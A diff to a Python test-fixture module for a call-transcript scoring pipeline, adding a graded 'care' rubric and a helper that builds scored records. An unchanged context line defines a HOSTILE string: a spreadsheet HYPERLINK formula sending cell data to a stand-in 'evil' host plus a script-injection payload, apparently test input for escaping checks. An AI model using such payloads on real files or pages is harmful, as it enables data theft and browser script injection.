@@ -4,6 +4,7 @@ from __future__ import annotations
 
 import datetime as dt
 import random
+from dataclasses import replace
 
 from pipeline.conversation import (
     CallMetadata,
@@ -23,6 +24,8 @@ from pipeline.conversation import (
     Transcript,
     Turn,
 )
+from pipeline.rubric import Rubric, parse
+from pipeline.score import scorecard
 
 HOSTILE = (
     '=HYPERLINK("http://evil/?"&A1,"x")</script><script>window.pwned=1</script>'
@@ -212,4 +215,46 @@ def example_records(count: int, *, repeats: int = 1) -> list[CallRecord]:
         card = example_scorecard(call_id, conversation, index)
         ledger = LedgerEntry(f"{call_id}.wav", f"{index:064x}", call_id, "scored")
         made.append(CallRecord(ledger, example_metadata(call_id, index), conversation, (card,)))
+    return made
+
+
+GRADED = parse("""
+rubric: care
+version: "1"
+title: Care
+mode: points
+pass_mark: 70
+sections:
+  - id: service
+    title: Service
+    criteria:
+      - id: greeting
+        question: Did the agent greet the customer?
+        check: {kind: phrases, any: [Thank you for calling]}
+      - id: empathy
+        question: How far did the agent show understanding?
+        points: 4
+        levels:
+          - {label: "named the feeling, and why", check: {kind: phrases, any: [I understand how frustrating]}}
+          - {label: said sorry, check: {kind: phrases, any: [I am sorry about that]}}
+""")
+"""A rubric with a graded criterion; its best grade has a comma in it."""
+
+
+def graded_records(count: int, rubric: Rubric = GRADED) -> list[CallRecord]:
+    """Records scored under ``GRADED``: the grades 4, 2 and 0 in turn, every greeting heard."""
+    made = []
+    for index, record in enumerate(example_records(count)):
+        assert record.conversation is not None
+        call_id = f"call-{index:03d}"
+        turn = record.conversation.transcript.turns[4]
+        points = (4.0, 2.0, 0.0)[index % 3]
+        quote = Evidence(turn.turn, turn.role, turn.start_s, turn.end_s, turn.text, "phrase:empathy", 0.9)
+        answers = {
+            "greeting": CriterionAnswer("greeting", "yes", 1.0, 1.0, 1.0),
+            "empathy": CriterionAnswer(
+                "empathy", "yes" if points >= 2 else "no", points, 4.0, 1.0, evidence=(quote,)
+            ),
+        }
+        made.append(replace(record, scorecards=(scorecard(call_id, rubric, answers),)))
     return made
